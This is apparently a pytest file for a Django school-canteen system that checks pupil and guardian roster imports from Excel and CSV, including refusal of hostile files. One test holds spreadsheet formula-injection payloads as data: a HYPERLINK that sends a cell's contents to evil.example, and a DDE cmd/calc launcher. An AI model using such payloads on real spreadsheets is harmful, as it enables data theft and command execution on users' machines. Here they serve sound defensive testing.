"""A school brings its pupils and parents in from its student-status system: template, preview,
confirm, re-import; and every hostile file is refused with a message, writing nothing."""

from __future__ import annotations

import io

import pytest

from canteen.core.errors import Forbidden
from canteen.core.models import AuditEvent
from canteen.org import roster
from canteen.org.choices import Role
from canteen.org.models import Guardian, GuardianLink, RosterImport, RosterImportStatus, SchoolClass, Student
from canteen.org.tests.roster_files import HEADERS, csv_bytes, pupil_row, xlsx_bytes

pytestmark = pytest.mark.django_db


def counts() -> tuple[int, int, int, int]:
    return (
        Student.objects.count(),
        Guardian.objects.count(),
        GuardianLink.objects.count(),
        SchoolClass.objects.count(),
    )


def three_pupils(campus_code: str) -> list[list[str]]:
    return [
        pupil_row("G110101201701", "李小明", campus_code, gender="男", allergens="花生、乳及乳制品", boarding="是"),
        pupil_row(
            "G110101201702",
            "王小红",
            campus_code,
            guardian=("王芳", "母亲", "13800001111"),
            guardian2=("王强", "父亲", "13800002222"),
        ),
        pupil_row(
            "G110101201703",
            "张三",
            campus_code,
            grade=4,
            class_name="四年级2班",
            guardian=("张伟", "爷爷", "138 0000 3333"),
        ),
    ]


def test_school_admin_imports_previews_confirms_and_reimports_without_duplicates(world):
    admin = world.user(Role.SCHOOL_ADMIN)
    campus = world.campuses[0]
    data = xlsx_bytes(three_pupils(campus.code))
    before = counts()

    record = roster.roster_preview(actor=admin, data=data, filename="三年级.xlsx", school=campus.school)
    assert record.status == RosterImportStatus.PREVIEWED, record.report
    assert record.rows_total == 3
    assert record.error_count == 0
    assert record.counts["students_new"] == 3
    assert counts() == before  # the preview writes no pupil

    seen = []
    record = roster.roster_confirm(
        actor=admin, roster_import=record, progress=lambda done, total: seen.append((done, total))
    )
    assert record.status == RosterImportStatus.APPLIED
    assert seen[-1] == (3, 3)
    assert record.counts["students_created"] == 3
    assert record.counts["guardians_created"] == 3  # 王芳, mother of two, is one guardian (by mobile)
    assert record.content is None
    assert len(record.sha256) == 64

    ming = Student.objects.get(student_number="G110101201701")
    assert ming.name == "李小明"
    assert ming.gender == "m"
    assert ming.boarding is True
    assert ming.allergens == ["milk", "peanut"]
    assert ming.school_class.grade == 3
    assert ming.school_class.name == "三年级1班"
    hong = Student.objects.get(student_number="G110101201702")
    assert sorted(hong.guardian_links.values_list("relation", flat=True)) == ["father", "mother"]
    assert Guardian.objects.get(phone="13800003333").links.get().relation == "grandparent"
    event = AuditEvent.objects.get(action="org.roster_import")
    assert event.actor == admin
    assert event.after["students_created"] == 3
    assert event.school_id == campus.school_id

    # The same file again: nothing changes.
    after_first = counts()
    again = roster.roster_confirm(
        actor=admin,
        roster_import=roster.roster_preview(actor=admin, data=data, filename="again.xlsx", school=campus.school),
    )
    assert again.counts["students_unchanged"] == 3
    assert again.counts["students_created"] == again.counts["students_updated"] == again.counts["links_created"] == 0
    assert counts() == after_first

    # A changed class and name updates the pupil in place.
    rows = three_pupils(campus.code)
    rows[0][1] = "李晓明"
    rows[0][5] = "三年级2班"
    changed = roster.roster_preview(actor=admin, data=xlsx_bytes(rows), filename="fix.xlsx", school=campus.school)
    assert [w["en"] for r in changed.report["rows"] for w in r["warnings"]] == ["The name will change from “李小明”"]
    changed = roster.roster_confirm(actor=admin, roster_import=changed)
    assert changed.counts["students_updated"] == 1
    assert changed.counts["classes_created"] == 1
    ming.refresh_from_db()
    assert ming.name == "李晓明"
    assert ming.school_class.name == "三年级2班"
    assert Student.objects.filter(student_number="G110101201701").count() == 1


def test_dry_run_reports_what_would_be_written_and_writes_nothing(world):
    admin = world.user(Role.SCHOOL_ADMIN)
    campus = world.campuses[0]
    before = counts()
    record = roster.roster_preview(
        actor=admin, data=xlsx_bytes(three_pupils(campus.code)), filename="a.xlsx", school=campus.school
    )
    record = roster.roster_confirm(actor=admin, roster_import=record, dry_run=True)
    assert record.status == RosterImportStatus.DRY_RUN
    assert record.counts["students_created"] == 3
    assert record.counts["guardians_created"] == 3
    assert counts() == before
    assert AuditEvent.objects.filter(action="org.roster_dry_run", actor=admin).count() == 1
    assert not AuditEvent.objects.filter(action="org.roster_import").exists()


def test_a_pupil_taken_by_another_school_after_the_preview_stops_the_confirmation(world):
    admin = world.user(Role.SCHOOL_ADMIN)
    campus = world.campuses[0]
    record = roster.roster_preview(
        actor=admin, data=xlsx_bytes(three_pupils(campus.code)), filename="a.xlsx", school=campus.school
    )
    assert record.status == RosterImportStatus.PREVIEWED
    elsewhere = world.campuses[2]
    Student.objects.create(
        campus=elsewhere, school_class=elsewhere.classes.first(), student_number="G110101201702", name="先到",
        gender="f", birth_date="2017-01-01",
    )  # fmt: skip
    before = counts()
    record = roster.roster_confirm(actor=admin, roster_import=record)
    assert record.status == RosterImportStatus.REJECTED
    assert "belongs to a pupil of another school" in row_errors(record)[3][0]
    assert counts() == before


def test_csv_saved_by_chinese_excel_in_gb18030_is_read(world):
    admin = world.user(Role.SCHOOL_ADMIN)
    campus = world.campuses[0]
    data = csv_bytes(three_pupils(campus.code), encoding="gb18030")
    record = roster.roster_preview(actor=admin, data=data, filename="roster.csv", school=campus.school)
    assert record.status == RosterImportStatus.PREVIEWED, record.report
    roster.roster_confirm(actor=admin, roster_import=record)
    assert Student.objects.get(student_number="G110101201703").name == "张三"


def test_district_imports_pupils_of_several_schools(world):
    regulator = world.user(Role.DISTRICT_REGULATOR)
    a, b = world.campuses[0], world.campuses[2]
    assert a.school_id != b.school_id
    rows = [pupil_row("D0000000001", "甲", a.code), pupil_row("D0000000002", "乙", b.name if False else b.code)]
    record = roster.roster_preview(
        actor=regulator, data=xlsx_bytes(rows), filename="d.xlsx", school=None, district=a.school.district
    )
    record = roster.roster_confirm(actor=regulator, roster_import=record)
    assert record.counts["students_created"] == 2
    assert Student.objects.get(student_number="D0000000002").campus == b


def test_only_the_schools_own_admin_or_its_district_may_import(world):
    data = xlsx_bytes(three_pupils(world.campuses[0].code))
    for role in (Role.WINDOW_OPERATOR, Role.CANTEEN_MANAGER, Role.GUARDIAN):
        with pytest.raises(Forbidden):
            roster.roster_preview(actor=world.user(role), data=data, filename="a.xlsx", school=world.campuses[0].school)
    with pytest.raises(Forbidden):
        roster.roster_preview(
            actor=world.user(Role.SCHOOL_ADMIN), data=data, filename="a.xlsx", school=world.campuses[2].school
        )


# -- hostile files ---------------------------------------------------------------------------


def preview(world, data: bytes, filename: str = "roster.xlsx") -> RosterImport:
    admin = world.user(Role.SCHOOL_ADMIN)
    return roster.roster_preview(actor=admin, data=data, filename=filename, school=world.campuses[0].school)


def row_errors(record: RosterImport) -> dict[int, list[str]]:
    return {r["row"]: [m["en"] for m in r["errors"]] for r in record.report["rows"] if r["errors"]}


def assert_refused(record: RosterImport) -> None:
    assert record.status == RosterImportStatus.REJECTED
    assert record.content is None
    with pytest.raises(Exception, match="not awaiting confirmation"):
        roster.roster_confirm(actor=record.actor, roster_import=record)


def test_wrong_columns_are_named_and_nothing_is_written(world):
    before = counts()
    headers = ["学号", "名字", "性别 Gender", "班级"]
    record = preview(world, xlsx_bytes([["G1234", "甲", "男", "1班"]], headers=headers))
    assert_refused(record)
    message = record.report["file_errors"][0]
    assert "missing Name, Birth date, Grade, Campus" in message["en"]
    assert "名字" in message["zh"]
    assert "not recognised 名字" in message["en"]
    assert counts() == before


def test_duplicates_inside_the_file_are_reported_on_the_second_row(world):
    campus = world.campuses[0]
    rows = three_pupils(campus.code)
    rows.append(pupil_row("G110101201701", "李小明", campus.code))
    before = counts()
    record = preview(world, xlsx_bytes(rows))
    assert_refused(record)
    assert row_errors(record) == {5: ["The student number repeats row 2"]}
    assert counts() == before


def test_a_student_number_of_another_school_is_refused(world):
    other = world.campuses[2].students.first()  # a pupil of the district's second school
    campus = world.campuses[0]
    record = preview(world, xlsx_bytes([pupil_row(other.student_number, "冒名", campus.code)]))
    assert_refused(record)
    assert "belongs to a pupil of another school" in row_errors(record)[2][0]
    other.refresh_from_db()
    assert other.name != "冒名"
    assert other.campus == world.campuses[2]
    # A campus of another school is refused as well.
    record = preview(world, xlsx_bytes([pupil_row("G9999999", "乙", world.campuses[2].code)]))
    assert row_errors(record)[2] == [f"The campus “{world.campuses[2].code}” is not one of this school"]


def test_formula_injection_names_are_refused_and_exported_safely(world):
    campus = world.campuses[0]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    rows = [
        pupil_row("G20000001", evil, campus.code),
        pupil_row("G20000002", "@SUM(1+1)", campus.code),
        pupil_row("G20000003", "正常", campus.code, guardian=("+cmd|' /C calc'!A0", "母亲", "13800001111")),
        pupil_row("G20000004", "正常二", campus.code, diet="-2+3"),
    ]
    before = counts()
    record = preview(world, xlsx_bytes(rows))
    assert_refused(record)
    errors = row_errors(record)
    assert set(errors) == {2, 3, 4, 5}
    assert all("spreadsheet formula" in e[0] for e in errors.values()), errors
    assert counts() == before
    # The error report a school downloads never carries a live formula.
    report = roster.roster_report_csv(record).decode("utf-8-sig")
    for line in report.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.strip('"').startswith(("=", "+", "-", "@"))
    assert roster.spreadsheet_safe(evil) == "'" + evil


def test_a_50_mb_file_is_refused_before_it_is_parsed(world):
    big = b"PK\x03\x04" + b"\0" * (50 * 1024 * 1024)
    before = counts()
    record = preview(world, big)
    assert_refused(record)
    assert "too large (50 MB)" in record.report["file_errors"][0]["en"]
    assert counts() == before


def test_a_file_that_is_not_excel_renamed_xlsx_is_refused(world):
    before = counts()
    for data in (b"%PDF-1.4 this is a pdf\n", "学籍号,姓名\n".encode(), b"PK\x03\x04garbage-not-a-zip" * 10):
        record = preview(world, data, "名单.xlsx")
        assert_refused(record)
        assert "Excel" in record.report["file_errors"][0]["en"]
    assert counts() == before


def test_each_bad_cell_has_its_own_message(world):
    campus = world.campuses[0]
    rows = [
        pupil_row("G30000001", "", campus.code),
        pupil_row("G30000002", "甲", campus.code, gender="X", birth="去年"),
        pupil_row("G30000003", "乙", campus.code, grade=15),
        pupil_row("G30000004", "丙", campus.code, allergens="榴莲", guardian=("家长", "母亲", "12345")),
        pupil_row("!!", "丁", campus.code),
    ]
    record = preview(world, xlsx_bytes(rows))
    assert_refused(record)
    assert row_errors(record) == {
        2: ["Name is required"],
        3: ["Gender must be 男/M or 女/F", "Birth date is not valid (e.g. 2016-03-01)"],
        4: ["Grade must be 1–12"],
        5: ["Unknown allergen “榴莲”", "Guardian mobile must be an 11-digit mainland mobile number"],
        6: ["Student number must be 4–32 letters or digits"],
    }


def test_the_template_reads_back_as_an_empty_roster_with_every_column(world):
    import openpyxl

    data = roster.roster_template_xlsx(campuses=[world.campuses[0]])
    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    assert [c for c in next(sheet.iter_rows(values_only=True)) if c] == HEADERS
    with pytest.raises(roster.RosterFileError, match="header but no pupils"):
        roster.roster_read(data=data, filename="template.xlsx")


def test_the_command_line_imports_with_progress_and_lists_row_errors(world, tmp_path, capsys):
    from django.core.management import CommandError, call_command

    admin = world.user(Role.SCHOOL_ADMIN)
    campus = world.campuses[0]
    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes(three_pupils(campus.code)))
    call_command("roster_import", str(good), actor=admin.username, school=campus.school.code, dry_run=True)
    assert "students_created=3" in capsys.readouterr().out
    assert not Student.objects.filter(student_number="G110101201701").exists()
    call_command("roster_import", str(good), actor=admin.username, school=campus.school.code)
    assert Student.objects.filter(student_number__startswith="G1101012017").count() == 3
    bad = tmp_path / "bad.csv"
    bad.write_bytes(csv_bytes([pupil_row("G40000001", "=1+1", campus.code)]))
    with pytest.raises(CommandError, match="1 error"):
        call_command("roster_import", str(bad), actor=admin.username, school=campus.school.code)
    assert "spreadsheet formula" in capsys.readouterr().err
